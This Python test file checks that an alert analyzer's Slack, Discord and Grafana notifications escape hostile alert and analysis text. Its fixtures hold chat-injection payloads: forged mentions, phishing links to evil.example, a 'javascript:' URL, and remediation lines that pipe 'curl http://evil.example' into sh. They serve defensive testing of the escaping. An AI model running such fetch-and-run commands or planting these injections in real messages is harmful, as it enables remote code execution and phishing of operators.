"""Chat injection: whoever can make an alert fire writes its labels, annotations, generatorURL
and runbook_url, and through the engine its summary. None of it may turn into a mention, a
link with a label of its choosing, or a section of the message. Checked on what the loopback
Slack and Discord servers receive."""

from __future__ import annotations

import re
from typing import Any

from aiops_analyzer.notify import notify_analysis, notify_resolution
from aiops_analyzer.schemas import AnalysisResult, ProbableCause

from tests.service.loopback import LoopbackServer
from tests.service.test_notify import ALERT, make_settings, requests_to, route

PHISHING_SOURCE = (
    "http://prometheus:9090/graph?g0.expr=up|Source> <!channel> "
    "<http://evil.example/login|Click to acknowledge"
)
HOSTILE_ALERT = ALERT.model_copy(
    update={
        "generator_url": PHISHING_SOURCE,
        "labels": {
            **ALERT.labels,
            "alertname": "Nginx <!here> [x](http://evil.example) @everyone",
            "instance": "<@U024BE7LH> <!subteam^S1|ops> [click](http://evil.example)",
        },
    }
)
HOSTILE_RESULT = AnalysisResult(
    summary="all fine\n\n*Remediation*\n1. curl http://evil.example/x.sh | sh <!channel>",
    severity="critical",
    category="target_down\n*Forged*",
    probable_causes=[
        ProbableCause(cause="see [docs](http://evil.example) <!here>", confidence=0.5)
    ],
    remediation=["restart nginx\n2. curl http://evil.example | sh"],
    runbook_urls=[
        "https://runbooks.example.com/x|Runbook> <!here> <http://evil.example|Fix",
        "javascript:alert(1)",
        "https://runbooks.example.com/nginx (old)",
    ],
    engine="rules",
)
OUR_LABELS = {"Source", "Runbook", "Open the analysis", "Open the analysis: charts, logs, evidence"}


def _strings(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for value in node.values() for s in _strings(value)]
    if isinstance(node, list):
        return [s for value in node for s in _strings(value)]
    return []


async def _received(channel: str, *, resolution: bool = False) -> dict[str, Any]:
    with LoopbackServer(route()) as server:
        settings = make_settings(server, public_url="https://analyzer.example.com")
        if resolution:
            await notify_resolution(
                HOSTILE_ALERT, HOSTILE_RESULT, 60.0, settings, analysis_id=7, backoff_seconds=0
            )
        else:
            await notify_analysis(
                HOSTILE_ALERT, HOSTILE_RESULT, settings, analysis_id=7, backoff_seconds=0
            )
    body: dict[str, Any] = requests_to(server, channel)[0].json()
    return body


def _mrkdwn(node: Any) -> list[str]:
    """Every text Slack parses as mrkdwn (plain_text objects show their text literally)."""
    if isinstance(node, dict):
        if node.get("type") == "mrkdwn":
            return [node["text"]]
        return [s for value in node.values() for s in _mrkdwn(value)]
    if isinstance(node, list):
        return [s for value in node for s in _mrkdwn(value)]
    return []


def _check_slack(body: dict[str, Any]) -> None:
    texts = [body["text"], *_mrkdwn(body["blocks"])]
    for text in texts:
        # Slack's control sequences are <...>: only our links may appear, with our labels.
        for inner in re.findall(r"<([^<>]*)>", text):
            url, _, label = inner.partition("|")
            assert label in OUR_LABELS, f"forged link or mention: <{inner}>"
            assert re.fullmatch(r"https?://[^\s|<>]+", url), url
    joined = "\n".join(texts)
    assert "evil.example/login|Click" not in joined
    assert "javascript:" not in re.findall(r"<([^|>]*)\|", joined)
    # Our own section titles appear once each; untrusted text stays on its line.
    # Formatting from untrusted text is disarmed (a zero-width space before the delimiter).
    assert len(re.findall("(?<!\u200b)[*]Remediation[*]", joined)) <= 1
    assert not re.findall("(?<!\u200b)[*]Forged[*]", joined)
    for block in body["blocks"]:
        text = block.get("text", {}).get("text", "")
        if text.startswith("*Summary*"):
            assert text.count("\n") == 1


def _check_discord(body: dict[str, Any]) -> None:
    assert body["allowed_mentions"] == {"parse": []}
    texts = _strings(body["embeds"])
    joined = "\n".join(texts)
    for label, url in re.findall(r"(?<!\\)\[([^\]]*)\]\(([^)]*)\)", joined):
        assert label in OUR_LABELS, f"forged masked link [{label}]({url})"
        assert re.fullmatch(r"https?://[^\s()<>]+", url), url
    assert "@everyone" not in joined and "<@U024BE7LH>" not in joined
    embed = body["embeds"][0]
    assert "\n" not in embed["title"]
    for field in embed.get("fields", []):
        if field["name"] == "Remediation":
            assert field["value"].count("\n") == 0  # one step, one line


async def test_slack_analysis_message_is_built_from_escaped_parts() -> None:
    body = await _received("slack")
    _check_slack(body)
    context = body["blocks"][-1]["elements"][0]["text"]
    # The real Prometheus link survives, percent-encoded, under the label "Source".
    assert "<http://prometheus:9090/graph?g0.expr=up%7CSource%3E%20%3C!channel%3E" in context


async def test_slack_resolution_message_is_built_from_escaped_parts() -> None:
    _check_slack(await _received("slack", resolution=True))


async def test_discord_analysis_message_is_built_from_escaped_parts() -> None:
    body = await _received("discord")
    _check_discord(body)
    links = next(f["value"] for f in body["embeds"][0]["fields"] if f["name"] == "Links")
    assert "[Source](http://prometheus:9090/graph?g0.expr=up%7CSource%3E" in links
    assert "[Runbook](https://runbooks.example.com/nginx%20%28old%29)" in links


async def test_discord_resolution_message_is_built_from_escaped_parts() -> None:
    _check_discord(await _received("discord", resolution=True))


async def test_grafana_annotations_carry_no_markup_but_our_page_link() -> None:
    # Grafana renders annotation text as HTML: the alert's and the engine's text arrive as
    # text, and the only tags are the analyzer's own link to its page.
    for resolution in (False, True):
        text = (await _received("grafana", resolution=resolution))["text"]
        tags = re.findall(r"<[^>]*>", text)
        assert len(tags) == 2, tags
        assert tags[0].startswith('<a href="https://analyzer.example.com/')
        assert tags[1] == "</a>"
        assert "Nginx &lt;!here&gt;" in text
